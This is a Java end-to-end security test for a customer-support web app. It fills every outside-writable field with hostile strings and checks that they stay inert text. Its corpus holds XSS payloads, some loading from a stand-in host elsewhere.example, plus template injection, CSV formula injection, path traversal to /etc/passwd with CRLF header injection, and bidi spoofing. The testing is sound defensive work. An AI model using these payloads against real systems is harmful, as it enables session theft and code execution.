package dev.ramah.journey;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.LoadState;
import dev.ramah.cast.Agent;
import dev.ramah.cast.Visitor;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Text that tries to run, in every field that somebody outside can fill, shown on every page. It is text: nothing of it
 * becomes an element, nothing asks for anything elsewhere, and the policy has nothing to stop.
 */
@ExtendWith(Stage.Opens.class)
class HostileTextIT {

    /** What is made of it would have this attribute, or ask for something there. */
    private static final String MARK = "data-hostile";

    private static final String ELSEWHERE = "elsewhere.example";

    private static final String LINK = "[link](javascript:alert(1)) [link](data:text/html,<script>alert(1)</script>)";

    private static final List<String> CORPUS = List.of(
            "<script data-hostile>alert(1)</script>",
            "<script data-hostile src=//elsewhere.example/x.js></script>",
            "</script></textarea></title></style><img data-hostile src=x onerror=alert(1)>",
            "\"><img data-hostile src=//elsewhere.example/x onerror=alert(1)>",
            "' autofocus onfocus=alert(1) data-hostile='",
            "<svg data-hostile onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><script data-hostile xlink:href=//elsewhere.example/x></script></svg>",
            "<iframe data-hostile srcdoc='<script>parent.alert(1)</script>'></iframe>",
            "<iframe data-hostile src=javascript:alert(1)></iframe>",
            "<a data-hostile href=javascript:alert(1)>click</a>",
            "<form data-hostile action=//elsewhere.example><button autofocus>x</button></form>",
            "<meta data-hostile http-equiv=refresh content='0;url=//elsewhere.example'>",
            "<link data-hostile rel=stylesheet href=//elsewhere.example/x.css>",
            "<base data-hostile href=//elsewhere.example/>",
            "<style data-hostile>*{background:url(//elsewhere.example/x)}</style>",
            "<math><mtext><table><mglyph><style><img data-hostile src=x onerror=alert(1)>",
            "<template data-hostile><slot></slot></template><x-y data-hostile></x-y>",
            "<!--><img data-hostile src=x onerror=alert(1)>-->",
            LINK,
            "![image](https://elsewhere.example/x.png) ![](javascript:alert(1))",
            "javascript:alert(1)//",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "&lt;img data-hostile src=x onerror=alert(1)&gt; &#60;script&#62;",
            "{{7*7}} ${7*7} #{7*7} {7*7} <%= 7*7 %> {#include /etc/passwd}",
            "${html`<img data-hostile src=x onerror=alert(1)>`} {{constructor.constructor('alert(1)')()}}",
            "=HYPERLINK(\"https://elsewhere.example\",\"click\")",
            "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            "\u202Etxt.exe\u202C \u2066isolated\u2069 \u200F",
            "../../../etc/passwd\r\nSet-Cookie: hostile=1");

    private static final String QUESTION = "How do I descale the Wippler 3000?";

    @Test
    void staysTextOnEveryPage(Stage stage) throws GeneralSecurityException {
        articlesAreHostile();
        List<String> trouble = new ArrayList<>();
        try (Agent bima = Agent.signsIn("bima@kopi.example", "kopi-nusantara")) {
            String conversation = everythingIsSaidIn(bima);
            inTheWidget(stage, bima, trouble);
            inTheDesk(stage, conversation, trouble);
        }
        onTheOtherPages(stage, trouble);
        assertEquals(List.of(), trouble);
        inFiles();
    }

    private void articlesAreHostile() {
        for (int i = 0; i < CORPUS.size(); i++) {
            String text = CORPUS.get(i);
            boolean isTheOneWeOpen = i == 0;
            as("maya@kopi.example")
                    .body(Map.of(
                            "title",
                            (isTheOneWeOpen ? QUESTION + " " : "") + line(text),
                            "body",
                            isTheOneWeOpen ? "With citric acid.\n\n" + String.join("\n\n", CORPUS) : text,
                            "questions",
                            isTheOneWeOpen ? List.of(QUESTION, line(text)) : List.of(line(text)),
                            "tags",
                            List.of(line(text)
                                    .substring(0, Math.min(40, line(text).length()))),
                            "language",
                            "en"))
                    .post("/api/articles")
                    .then()
                    .statusCode(201);
        }
    }

    /** One customer whose every field is hostile; their conversation has every text in every way it can be said. */
    private static String everythingIsSaidIn(Agent bima) throws GeneralSecurityException {
        String conversation = "";
        for (int i = 0; i < CORPUS.size(); i++) {
            String text = CORPUS.get(i);
            Visitor visitor = Visitor.arrives(Map.of(
                    "name",
                    text,
                    "page",
                    text,
                    "language",
                    "en",
                    "attributes",
                    Map.of(line(text).substring(0, Math.min(100, line(text).length())), text),
                    "identity",
                    identity("hostile-" + i)));
            order("hostile-" + i, text);
            boolean saysAll = i == 0;
            for (String each : saysAll ? CORPUS : List.of(text)) {
                visitor.says(each);
            }
            visitor.asksForPerson();
            if (saysAll) {
                conversation = visitor.conversation;
                bima.takes(conversation);
                for (String each : CORPUS) {
                    bima.says(visitor.conversation, each);
                    bima.does("note", visitor.conversation, Map.of("text", each));
                }
                bima.does(
                        "transfer",
                        visitor.conversation,
                        Map.of("to", Map.of("team", "orders"), "reason", String.join("\n", CORPUS)));
                bima.takes(visitor.conversation);
            }
            boolean waits = i % 4 == 3;
            if (!waits) {
                bima.takes(visitor.conversation);
                bima.resolves(visitor.conversation);
                visitor.does("rate", Map.of("csat", 1 + i % 5, "comment", text));
            }
            visitor.close();
        }
        return conversation;
    }

    private static void inTheWidget(Stage stage, Agent bima, List<String> trouble) {
        Person person = watched(stage.enters("visitor"), trouble);
        Widget widget = Widget.inTheShop(person, "visitor");
        widget.says(QUESTION);
        widget.source(QUESTION + " " + CORPUS.get(0)).click();
        assertThat(person.page.getByText("With citric acid.").last()).isVisible();
        isOnlyText(person.page, "the article", trouble);
        person.page.keyboard().press("Escape");
        widget.asksForAPerson();
        widget.reads("A person will join you here.");
        CORPUS.stream().map(HostileTextIT::line).forEach(widget::says);
        String conversation = bima.line()
                .await(frame -> frame.path("type").asText().equals("waiting")
                        && frame.path("brief").toString().contains("Wippler"))
                .path("conversation")
                .asText();
        bima.takes(conversation);
        CORPUS.forEach(each -> bima.says(conversation, "Agent: " + each));
        bima.says(conversation, "That was all.");
        widget.reads("That was all.");
        isOnlyText(person.page, "the widget", trouble);
        assertThat(widget.log()).containsText("{{7*7}} ${7*7} #{7*7} {7*7}");
    }

    private static void inTheDesk(Stage stage, String conversation, List<String> trouble) {
        Person ana = watched(stage.enters("Ana"), trouble);
        DeskPage.of(ana);
        shows(ana, "<iframe data-hostile");
        isOnlyText(ana.page, "the queue", trouble);
        Person maya = watched(stage.enters("Maya"), trouble).signsIn("maya@kopi.example", "/desk#" + conversation);
        DeskPage desk = DeskPage.on(maya);
        assertThat(desk.transcript()).containsText(CORPUS.get(CORPUS.size() - 2));
        isOnlyText(maya.page, "the desk", trouble);
    }

    private static void onTheOtherPages(Stage stage, List<String> trouble) {
        Person rani = watched(stage.enters("Rani"), trouble).signsIn("rani@kopi.example", "/insight");
        shows(rani, "<template data-hostile");
        isOnlyText(rani.page, "the report", trouble);
        rani.opens("/articles");
        shows(rani, "data-hostile");
        isOnlyText(rani.page, "the articles", trouble);
        visible(rani, LINK).click();
        assertThat(rani.page.getByLabel("Title, as a customer would ask")).hasValue(LINK);
        isOnlyText(rani.page, "an article and its preview", trouble);
        rani.opens("/articles#topics");
        rani.page.reload();
        isOnlyText(rani.page, "the topics", trouble);
        rani.opens("/customers");
        shows(rani, "data-hostile");
        isOnlyText(rani.page, "the customers", trouble);
        rani.opens("/customers#" + hostileCustomer());
        rani.page.reload();
        shows(rani, "data-hostile");
        isOnlyText(rani.page, "a customer", trouble);
    }

    private static Locator visible(Person person, String text) {
        return person.page.getByText(text).locator("visible=true").first();
    }

    private static void shows(Person person, String text) {
        assertThat(visible(person, text)).isVisible();
    }

    private static String hostileCustomer() {
        Response found = as("maya@kopi.example").queryParam("q", "data-hostile").get("/api/customers");
        return found.path("items[0].id");
    }

    /** A spreadsheet must not take a cell for a formula, and a browser must save what it gets under a name of ours. */
    private static void inFiles() {
        Response csv = as("maya@kopi.example").accept("text/csv").get("/api/reports/comments");
        assertTrue(csv.asString().contains("HYPERLINK"), csv.asString());
        for (String cell : cells(csv.asString())) {
            boolean isFormula = !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0;
            assertTrue(!isFormula || cell.matches("-?\\d+(\\.\\d+)?"), "A formula: " + cell);
        }
        Response export = as("rani@kopi.example").get("/api/customers/" + hostileCustomer() + "/export");
        assertEquals(200, export.statusCode());
        String disposition = export.header("Content-Disposition");
        assertTrue(disposition.matches("attachment; ?filename=\"?[A-Za-z0-9._-]+\"?"), disposition);
        assertTrue(String.valueOf(export.header("X-Content-Type-Options")).equals("nosniff"));
    }

    /** The cells of a CSV file (RFC 4180). */
    private static List<String> cells(String csv) {
        return Pattern.compile("\"((?:[^\"]|\"\")*)\"|([^,\\r\\n]+)")
                .matcher(csv)
                .results()
                .map(found ->
                        found.group(1) == null ? found.group(2) : found.group(1).replace("\"\"", "\""))
                .collect(Collectors.toList());
    }

    private static Person watched(Person person, List<String> trouble) {
        person.page.onDialog(dialog -> {
            trouble.add(person.name + " saw a dialog: " + dialog.message());
            dialog.dismiss();
        });
        person.page.onRequest(request -> {
            if (!request.url().startsWith(person.address) && !request.url().startsWith("data:")) {
                trouble.add(person.name + "'s browser asked for " + request.url());
            }
        });
        return person;
    }

    /** Nothing in the page or any of its shadows was made of our texts. */
    private static void isOnlyText(Page page, String where, List<String> trouble) {
        page.waitForLoadState(LoadState.NETWORKIDLE);
        Object made = page.evaluate(
                """
                ([mark, elsewhere]) => {
                  const found = []
                  const look = root => {
                    for (const each of root.querySelectorAll('*')) {
                      const strange = each.hasAttribute(mark) || [...each.attributes].some(({ name, value }) =>
                        name.startsWith('on') || /^\\s*(javascript|data:text)/i.test(value) && ['href', 'src', 'action'].includes(name)
                          || value.includes(elsewhere) && ['href', 'src', 'action'].includes(name) && each.localName !== 'a')
                      if (strange) found.push(each.outerHTML.slice(0, 200))
                      if (each.shadowRoot) look(each.shadowRoot)
                    }
                  }
                  look(document)
                  return found
                }""",
                List.of(MARK, ELSEWHERE));
        if (!List.of().equals(made)) {
            trouble.add("Made of text in " + where + ": " + made);
        }
    }

    /** Fields of one line refuse or fold line breaks. */
    private static String line(String text) {
        return text.replaceAll("[\\r\\n]+", " ");
    }

    private static RequestSpecification as(String email) {
        String token = RestAssured.given()
                .contentType(ContentType.JSON)
                .body(Map.of("email", email, "password", "kopi-nusantara"))
                .post("/api/login")
                .path("token");
        return RestAssured.given().auth().oauth2(token).contentType(ContentType.JSON);
    }

    private static void order(String customer, String text) {
        RestAssured.given()
                .auth()
                .oauth2(Stage.SECRET)
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "id",
                        customer + "-order",
                        "type",
                        "order",
                        "data",
                        Map.of(
                                "order", text,
                                "status", text,
                                "total", text,
                                "currency", text,
                                "items",
                                        IntStream.range(0, 3)
                                                .mapToObj(i -> text)
                                                .toList())))
                .post("/api/customers/" + customer + "/events")
                .then()
                .statusCode(202);
    }

    private static Map<String, Object> identity(String id) throws GeneralSecurityException {
        long exp = 4_000_000_000L;
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(Stage.SECRET.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
        String hash = HexFormat.of().formatHex(mac.doFinal((id + "." + exp).getBytes(StandardCharsets.UTF_8)));
        return Map.of("id", id, "exp", exp, "hash", hash);
    }
}
